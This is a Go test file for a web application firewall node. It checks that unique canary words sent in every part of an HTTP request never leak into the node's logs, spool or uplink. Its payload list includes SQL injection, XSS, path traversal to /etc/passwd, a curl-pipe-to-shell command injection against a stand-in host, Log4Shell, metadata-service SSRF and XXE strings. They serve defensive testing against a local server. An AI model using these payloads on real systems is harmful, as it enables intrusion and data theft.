package node_test

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"index/suffixarray"
	"io"
	"io/fs"
	"log/slog"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/gabionhq/gabion/internal/config"
	"github.com/gabionhq/gabion/internal/node"
	"github.com/gabionhq/gabion/internal/testenv/fakecloud"
	"github.com/gabionhq/gabion/wire"
	"github.com/gabionhq/gabion/wire/wirepb"
)

const (
	canaries = 2000
	// The control build must leak so many of them, or the search is blind.
	controlShare = 0.95
	controlEnv   = "GABION_PRIVACY_CONTROL"
)

// TestNothingPersonalLeaves sends requests that each hold a word which occurs
// nowhere else, in every place that a request has, benign and malicious, and
// looks for the words in all that the node sends, logs and shows.
func TestNothingPersonalLeaves(t *testing.T) {
	if testing.Short() {
		t.Skip("sends thousands of requests")
	}
	control := os.Getenv(controlEnv) != ""
	var c fakecloud.Cloud
	c.Start(t)
	data, logs := t.TempDir(), &lockedBuffer{}
	words := makeCanaries(canaries)

	n := startPrivate(t, &c, data, logs)
	attacks := n.send(t, words)
	n.share(t, "frobnicate")
	n.ask(t, &c)
	n.stop() // what is not delivered yet is spooled
	n = startPrivate(t, &c, data, logs)
	c.Wait(t, "all hits", func() bool { return countRequests(c.Hits()) >= attacks })
	n.stop()

	egress := captured(t, &c, data, logs)
	if !bytes.Contains(egress, []byte("/search/frobnicate")) {
		t.Error("a name that many sources share was not revealed: the search may see nothing at all")
	}
	if attacks < canaries/4 {
		t.Errorf("only %d of %d requests were attacks", attacks, canaries)
	}
	if leaks := c.Leaks(); len(leaks) == 0 || leaks[0].Kind != "sql_error" {
		t.Errorf("what responses gave away was not told: %v", leaks)
	}
	found := search(egress, words)
	t.Logf("%d attacks, %d bytes captured, %d of %d canaries found", attacks, len(egress), len(found), len(words))
	if control {
		if float64(len(found)) < controlShare*canaries {
			t.Errorf("the build that does not mask leaks %d of %d canaries as far as this test sees: it is blind", len(found), canaries)
		}
		return
	}
	for _, f := range found {
		t.Errorf("%s left the node as %s: ...%s...", f.word, f.form, f.around)
	}
}

// TestPrivacyControl runs the test above against a build that does not mask.
func TestPrivacyControl(t *testing.T) {
	if testing.Short() || os.Getenv(controlEnv) != "" {
		t.Skip("builds the node again")
	}
	cmd := exec.Command("go", "test", "-tags", "gabion_unmasked", "-count=1", "-run", "^TestNothingPersonalLeaves$", "-v", ".")
	cmd.Env = append(os.Environ(), controlEnv+"=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for line := range strings.Lines(string(out)) {
		if strings.Contains(line, "canaries found") {
			t.Log("control: " + strings.TrimSpace(line))
		}
	}
}

type privateNode struct {
	node *node.Node
	url  string
	stop func()
}

func startPrivate(t *testing.T, c *fakecloud.Cloud, data string, logs io.Writer) *privateNode {
	t.Helper()
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// An application that fails, and shows what it was sent.
		sent, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "You have an error in your SQL syntax near '%s %s %s'", r.RequestURI, r.Header, sent)
	}))
	t.Cleanup(upstream.Close)
	cfg := config.Default().Node
	cfg.Listen, cfg.Admin = "127.0.0.1:0", "127.0.0.1:0"
	cfg.Sites = []config.Site{{Upstream: upstream.URL, Mode: "block"}}
	cfg.TrustedProxies = []string{"127.0.0.0/8"}
	cfg.Recorder.Sample = 1
	cfg.Privacy.RevealK = 3
	cfg.Uplink = config.Uplink{Token: c.Token(), Interval: 100 * time.Millisecond}
	n, err := node.New(cfg, data, slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- n.Run(ctx) }()
	stop := sync.OnceFunc(func() {
		for _, path := range []string{"/readyz", "/metrics", "/healthz"} {
			if res, err := http.Get("http://" + n.AdminAddr().String() + path); err == nil {
				io.Copy(logs, res.Body)
				res.Body.Close()
			}
		}
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	t.Cleanup(stop)
	return &privateNode{node: n, url: "http://" + n.Addr().String(), stop: stop}
}

// send sends one request or more for each word and returns how many were
// attacks.
func (n *privateNode) send(t *testing.T, words []string) (attacks int) {
	t.Helper()
	r := rand.New(rand.NewPCG(1, 2))
	for i, word := range words {
		place := places[i%len(places)]
		text := word
		if i/len(places)%2 == 1 {
			text = strings.ReplaceAll(payloads[r.IntN(len(payloads))], "CANARY", word)
		}
		req, err := place.make(n.url, text, word)
		if err != nil {
			t.Fatalf("%s: %v", place.name, err)
		}
		req.Header.Set("X-Forwarded-For", fmt.Sprintf("%d.%d.%d.%d", 11+r.IntN(100), r.IntN(256), r.IntN(256), 1+r.IntN(250)))
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", place.name, err)
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
	}
	return int(n.node.Counts().Attacks)
}

// share has four sources of different networks use a name.
func (n *privateNode) share(t *testing.T, name string) {
	t.Helper()
	for i := range 4 {
		req, err := http.NewRequest("GET", n.url+"/search/"+name, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("X-Forwarded-For", fmt.Sprintf("12.%d.1.1", i))
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
	}
}

// ask opens evidence as a person would, while all is captured.
func (n *privateNode) ask(t *testing.T, c *fakecloud.Cloud) {
	t.Helper()
	public, private, err := wire.NewReplyKey()
	if err != nil {
		t.Fatal(err)
	}
	c.Wait(t, "a hit with evidence", func() bool { return len(c.Hits()) > 0 })
	asked := 0
	for _, h := range c.Hits() {
		if asked == 20 {
			break
		}
		asked++
		c.Ask(&wirepb.Ask{Id: fmt.Sprint("ask-", asked), Kind: "evidence", EvidenceId: h.EvidenceId, ReplyKey: public, AskedBy: "ada"})
		c.Ask(&wirepb.Ask{Id: fmt.Sprint("names-", asked), Kind: "names", Keys: [][]byte{h.Endpoint.Key}, ReplyKey: public, AskedBy: "ada"})
	}
	c.Wait(t, "answers", func() bool { return len(c.Answers()) == 2*asked })
	opened := 0
	for _, a := range c.Answers() {
		if plain, err := wire.Open(private, a.AskId, a.Sealed); err == nil && len(plain) > 0 {
			opened++
		}
	}
	if opened < asked {
		t.Errorf("%d of %d answers could be opened", opened, 2*asked)
	}
}

func countRequests(hits []*wirepb.Hit) int {
	ids := map[string]bool{}
	for _, h := range hits {
		ids[h.RequestId] = true
	}
	return len(ids)
}

// captured is all that left the node or is about to: what the cloud received,
// in all of its forms, the spool, the logs, the admin pages, and the egress
// log.
func captured(t *testing.T, c *fakecloud.Cloud, data string, logs *lockedBuffer) []byte {
	t.Helper()
	var all bytes.Buffer
	for _, call := range c.Calls() {
		fmt.Fprintln(&all, call.Method, call.Header)
		if call.Message == nil {
			continue
		}
		b, err := proto.Marshal(call.Message)
		if err != nil {
			t.Fatal(err)
		}
		text, err := protojson.Marshal(call.Message)
		if err != nil {
			t.Fatal(err)
		}
		all.Write(b)
		all.Write(text)
	}
	all.WriteString(logs.String())
	for _, dir := range []string{"egress", "spool"} {
		err := filepath.WalkDir(filepath.Join(data, dir), func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			b, err := os.ReadFile(path)
			all.Write(b)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return all.Bytes()
}

type leak struct{ word, form, around string }

// search looks for every word in every form that a careless program might
// give it.
func search(text []byte, words []string) (found []leak) {
	lower := bytes.ToLower(text)
	exact, folded := suffixarray.New(text), suffixarray.New(lower)
	look := func(index *suffixarray.Index, text []byte, word, form, needle string) bool {
		at := index.Lookup([]byte(needle), 1)
		if len(at) == 0 {
			return false
		}
		around := text[max(0, at[0]-60):min(len(text), at[0]+len(needle)+60)]
		found = append(found, leak{word, form, fmt.Sprintf("%q", around)})
		return true
	}
next:
	for _, word := range words {
		for form, needle := range foldedForms(word) {
			if look(folded, lower, word, form, strings.ToLower(needle)) {
				continue next
			}
		}
		for form, needle := range exactForms(word) {
			if look(exact, text, word, form, needle) {
				continue next
			}
		}
	}
	return found
}

func foldedForms(word string) map[string]string {
	percent, html, js := "", "", ""
	for _, c := range []byte(word) {
		percent += fmt.Sprintf("%%%02x", c)
		html += fmt.Sprintf("&#%d;", c)
		js += fmt.Sprintf(`\u%04x`, c)
	}
	m, s, l := md5.Sum([]byte(word)), sha1.Sum([]byte(word)), sha256.Sum256([]byte(word))
	reversed := []byte(word)
	slices.Reverse(reversed)
	return map[string]string{
		"text": word, "reversed text": string(reversed), "hex": hex.EncodeToString([]byte(word)), "percent": percent, "HTML": html, "JavaScript": js,
		"MD5": hex.EncodeToString(m[:]), "SHA-1": hex.EncodeToString(s[:]), "SHA-256": hex.EncodeToString(l[:]),
	}
}

func exactForms(word string) map[string]string {
	forms := map[string]string{}
	for shift := range 3 {
		// The characters that do not depend on what stands around the word.
		b := base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("\x00", shift) + word))
		b = b[(shift*8+5)/6 : (shift+len(word))*8/6]
		forms[fmt.Sprint("base64, shift ", shift)] = b
	}
	for _, text := range []string{word, strings.ToUpper(word)} {
		m, s, l := md5.Sum([]byte(text)), sha1.Sum([]byte(text)), sha256.Sum256([]byte(text))
		for name, sum := range map[string][]byte{"MD5": m[:], "SHA-1": s[:], "SHA-256": l[:]} {
			forms[name+" bytes of "+text] = string(sum)
			forms[name+" in base64 of "+text] = base64.RawStdEncoding.EncodeToString(sum)
			forms[name+" cut of "+text] = string(sum[:8])
		}
	}
	return forms
}

// makeCanaries makes words that could be names: the check for random text
// must not be what holds them back.
func makeCanaries(n int) []string {
	r := rand.New(rand.NewPCG(7, 9))
	seen := map[string]bool{}
	var words []string
	for len(words) < n {
		var b strings.Builder
		for range 5 {
			b.WriteByte("bdfgklmnprstvz"[r.IntN(14)])
			b.WriteByte("aeiou"[r.IntN(5)])
		}
		b.WriteByte("nrstl"[r.IntN(5)])
		if w := b.String(); !seen[w] {
			seen[w] = true
			words = append(words, w)
		}
	}
	return words
}

var payloads = []string{
	"1' OR 'CANARY'='CANARY", "1 UNION SELECT CANARY, password FROM CANARY--", "'; DROP TABLE CANARY; --", "1 AND SLEEP(5) /*CANARY*/",
	"CANARY' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT CANARY())))-- CANARY",
	`<script>alert("CANARY")</script>`, `<img src=x onerror=CANARY(1)>`, `"><svg/onload=CANARY>`, `javascript:CANARY(document.cookie)`, `<a CANARY=1 onclick=alert(1)>`,
	"../../../../CANARY/../etc/passwd", "..%2f..%2f..%2fetc%2fCANARY%2fpasswd", "; cat /etc/passwd; echo CANARY", "$(curl http://CANARY.example/x | sh)", "| CANARY; id `CANARY`",
	"${jndi:ldap://CANARY.example/a}", "{{CANARY.constructor('return process')()}}", "http://169.254.169.254/CANARY", `{"$where":"CANARY==1"}`, "CANARY)(uid=*))(|(uid=*",
}

// A place is where a request can hold a text.
type place struct {
	name string
	make func(base, text, word string) (*http.Request, error)
}

func get(target func(text, word string) string) func(base, text, word string) (*http.Request, error) {
	return func(base, text, word string) (*http.Request, error) {
		return http.NewRequest("GET", base+target(text, word), nil)
	}
}

func body(kind string, content func(text, word string) string) func(base, text, word string) (*http.Request, error) {
	return func(base, text, word string) (*http.Request, error) {
		req, err := http.NewRequest("POST", base+"/api/orders", strings.NewReader(content(text, word)))
		if err == nil {
			req.Header.Set("Content-Type", kind)
		}
		return req, err
	}
}

func header(set func(req *http.Request, text, word string)) func(base, text, word string) (*http.Request, error) {
	return func(base, text, word string) (*http.Request, error) {
		req, err := http.NewRequest("GET", base+"/api/items", nil)
		if err == nil {
			set(req, text, word)
		}
		return req, err
	}
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func encoded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// attribute makes a text fit for an XML attribute or text.
var attribute = strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;")

var places = []place{
	{"query value", get(func(x, _ string) string { return "/search?q=" + url.QueryEscape(x) })},
	{"query name", get(func(x, _ string) string { return "/search?" + url.QueryEscape(x) + "=1" })},
	{"query name and value", get(func(x, w string) string { return "/search?" + w + "=" + url.QueryEscape(x) })},
	{"nested query name", get(func(x, w string) string { return "/search?filter[" + w + "][]=" + url.QueryEscape(x) })},
	{"query, twice encoded", get(func(x, _ string) string { return "/search?q=" + url.QueryEscape(url.QueryEscape(x)) })},
	{"base64 in query", get(func(x, _ string) string { return "/search?q=" + url.QueryEscape(encoded(x)) })},
	{"JSON in base64 in query", get(func(x, w string) string {
		return "/search?state=" + url.QueryEscape(encoded(`{"`+w+`":`+quoted(x)+`}`))
	})},
	{"hex in query", get(func(x, _ string) string { return "/search?q=" + hex.EncodeToString([]byte(x)) })},
	{"path segment", get(func(x, _ string) string { return "/users/" + url.PathEscape(x) + "/orders" })},
	{"last path segment", get(func(x, _ string) string { return "/files/" + url.PathEscape(x) })},
	{"file name and extension", get(func(x, w string) string { return "/files/" + w + "." + w[:4] + "?x=" + url.QueryEscape(x) })},
	{"matrix parameter", get(func(x, w string) string { return "/a;" + w + "=" + w + "/b?q=" + url.QueryEscape(x) })},
	{"braces in path", get(func(x, w string) string { return "/%7B" + w + "%7D/{int}" + w + "?q=" + url.QueryEscape(x) })},
	{"two words in path", get(func(x, w string) string { return "/user-" + w + "/" + w + "_id?q=" + url.QueryEscape(x) })},
	{"header value", header(func(r *http.Request, x, _ string) { r.Header.Set("X-Note", x) })},
	{"header name", header(func(r *http.Request, x, w string) { r.Header["X-"+w] = []string{x} })},
	{"user agent", header(func(r *http.Request, x, _ string) { r.Header.Set("User-Agent", x) })},
	{"referer", header(func(r *http.Request, x, w string) {
		r.Header.Set("Referer", "https://"+w+".example/"+w+"?q="+url.QueryEscape(x))
	})},
	{"authorization", header(func(r *http.Request, x, w string) { r.SetBasicAuth(w, x) })},
	{"cookie value", header(func(r *http.Request, x, _ string) { r.Header.Set("Cookie", "sid="+url.QueryEscape(x)) })},
	{"cookie name", header(func(r *http.Request, x, w string) { r.Header.Set("Cookie", w+"="+url.QueryEscape(x)) })},
	{"host", header(func(r *http.Request, x, w string) { r.Host = w + ".example"; r.Header.Set("X-Note", x) })},
	{"method", func(base, x, w string) (*http.Request, error) {
		return http.NewRequest(strings.ToUpper(w), base+"/x?q="+url.QueryEscape(x), nil)
	}},
	{"form", body("application/x-www-form-urlencoded", func(x, w string) string { return "a=1&" + w + "=" + url.QueryEscape(x) })},
	{"JSON value", body("application/json", func(x, _ string) string { return `{"name":` + quoted(x) + `}` })},
	{"JSON key", body("application/json", func(x, _ string) string { return `{"user":{` + quoted(x) + `:1}}` })},
	{"JSON in JSON", body("application/json", func(x, w string) string { return `{"data":` + quoted(`{"`+w+`":[`+quoted(x)+`]}`) + `}` })},
	{"broken JSON", body("application/json", func(x, w string) string { return `{"` + w + `":` + quoted(x) + `,,,` + w })},
	{"XML text and tag", body("application/xml", func(x, w string) string { return "<a><" + w + ">" + attribute.Replace(x) + "</" + w + "></a>" })},
	{"XML attribute", body("application/xml", func(x, w string) string { return "<a " + w + `="` + attribute.Replace(x) + `"/>` })},
	{"XML comment and entity", body("application/xml", func(x, w string) string {
		return `<!DOCTYPE a [<!ENTITY ` + w + ` SYSTEM "file:///` + w + `">]><a><!--` + strings.ReplaceAll(x, "--", "") + `-->&` + w + `;</a>`
	})},
	{"GraphQL", body("application/json", func(x, w string) string {
		return `{"query":` + quoted(`query `+w+` { user(name: `+quoted(x)+`) { `+w+` } }`) + `,"variables":{"` + w + `":` + quoted(x) + `}}`
	})},
	{"plain text", body("text/plain", func(x, _ string) string { return x })},
	{"content type", body("application/x-form", func(x, w string) string { return x + w })},
	{"multipart field", multipartOf(func(w *multipart.Writer, x, word string) error { return w.WriteField(word, x) })},
	{"multipart file", multipartOf(func(w *multipart.Writer, x, word string) error {
		part, err := w.CreateFormFile("file", word+".txt")
		if err == nil {
			_, err = io.WriteString(part, x)
		}
		return err
	})},
	{"multipart header", multipartOf(func(w *multipart.Writer, x, word string) error {
		part, err := w.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="f"; filename="a"`}, "X-" + word: {word}})
		if err == nil {
			_, err = io.WriteString(part, x)
		}
		return err
	})},
}

func multipartOf(fill func(w *multipart.Writer, text, word string) error) func(base, text, word string) (*http.Request, error) {
	return func(base, text, word string) (*http.Request, error) {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		if err := fill(w, text, word); err != nil {
			return nil, err
		}
		if err := w.Close(); err != nil {
			return nil, err
		}
		req, err := http.NewRequest("POST", base+"/upload", &b)
		if err == nil {
			req.Header.Set("Content-Type", w.FormDataContentType())
		}
		return req, err
	}
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// TestStatisticsSurviveRestarts counts what arrives of requests that were
// served before, between and after restarts of the node.
func TestStatisticsSurviveRestarts(t *testing.T) {
	var c fakecloud.Cloud
	c.Start(t)
	data := t.TempDir()
	sent := 0
	for round := range 4 {
		n := startPrivate(t, &c, data, io.Discard)
		for range 57 {
			res, err := http.Get(n.url + "/search?q=shoes")
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			sent++
		}
		if round == 1 {
			c.Stop() // what is counted meanwhile waits on disk
		}
		n.stop()
		if round == 2 {
			c.Start(t)
		}
	}
	n := startPrivate(t, &c, data, io.Discard)
	defer n.stop()
	sum := func() (total uint64) {
		for _, d := range c.Endpoints() {
			total += d.Count
		}
		return total
	}
	c.Wait(t, "all counts", func() bool { return sum() >= uint64(sent) && c.Status().Spooled == 0 })
	if got := sum(); got != uint64(sent) {
		t.Errorf("%d requests arrived in the counts, %d were served", got, sent)
	}
}
